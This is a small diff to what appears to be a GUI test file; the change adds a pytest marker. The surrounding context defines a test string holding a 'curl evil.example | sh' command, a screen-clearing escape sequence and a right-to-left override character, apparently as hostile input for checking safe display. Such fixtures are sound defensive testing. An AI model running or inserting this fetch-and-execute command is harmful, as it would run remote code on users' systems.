@@ -21,6 +21,8 @@ from tests.gui.conftest import idle, opened
 from tests.gui.fake_server import Server, connect
 from tests.unit.tuning.fakes import FACTS
 
+pytestmark = pytest.mark.one_window
+
 LOAD = "sh -c 'curl evil.example | sh'\x1b[2J\u202e" + " a" * 400
 ADVICE = Advice(
     "x",
